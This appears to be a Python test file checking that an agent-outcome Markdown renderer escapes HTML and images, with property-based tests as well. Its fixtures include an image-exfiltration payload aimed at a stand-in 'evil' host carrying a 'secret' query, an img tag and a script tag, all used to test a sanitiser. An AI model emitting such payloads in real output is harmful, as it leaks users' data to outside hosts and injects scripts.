"""An outcome as Markdown for notebooks."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from run_specialist.record.outcome import Evidence, harmless
from tests.unit.record.outcomes import outcome

PIECES = [
    "<img src=x>",
    "![x](http://x)",
    "<b",
    "\n",
    "    ",
    "```",
    "`",
    "<!-- ",
    "-->",
    "![",
    "](x)",
    "[",
    "- ",
    "> ",
    "word ",
]


def unsafe(markdown):
    """Return the kinds of tokens that would load or embed something."""
    blocks = MarkdownIt().parse(markdown)
    kinds = {token.type for block in blocks for token in (block, *(block.children or ()))}
    return kinds & {"html_block", "html_inline", "image"}


def test_an_outcome_shows_answer_quotes_gaps_and_warnings():
    """The Markdown has the answer as it is, each quote with its mark and place, the gaps and a line about the run."""
    quotes = (Evidence("a.md:3", "Owls eat\nmice.", True), Evidence("b.md", "Bats.", False), Evidence("c", "X", None))
    text = outcome(answer="**Mice**", evidence=quotes, gaps=("toads",), warnings=("slow",))._repr_markdown_()
    assert text.startswith(
        "**Mice**\n\n✓ `a.md:3`\n\n> Owls eat\n> mice.\n\n✗ not found in what was read: `b.md`\n\n> Bats."
    )
    assert "\n\n- `c`\n\n> X\n\n- not found: toads\n\n" in text
    assert text.endswith("- *owls: landed, 3 tool calls, haiku*\n- *slow*\n")


@pytest.mark.parametrize(
    "text", ["```c\n#include <stdio.h>\n```\n", "a < b, `List<int>`, [x](http://x) <http://x>\n", "Wow! [x]"]
)
def test_text_without_html_or_images_is_unchanged(text):
    """Code, comparisons and links stay byte for byte."""
    assert harmless(text) == text


def test_html_and_images_are_shown_as_text():
    """An image that would send what was read, and a script, are escaped in the whole outcome."""
    evil = outcome(answer="![x](http://evil/?q=secret) <img src=http://evil>", gaps=("<script>alert()</script>",))
    assert unsafe(evil._repr_markdown_()) == set()
    assert "http://evil/?q=secret" in evil._repr_markdown_()


@given(st.lists(st.sampled_from(PIECES)).map("".join) | st.text())
def test_nothing_unsafe_remains(text):
    """Whatever the text, no HTML and no image is left."""
    assert unsafe(harmless(text)) == set()
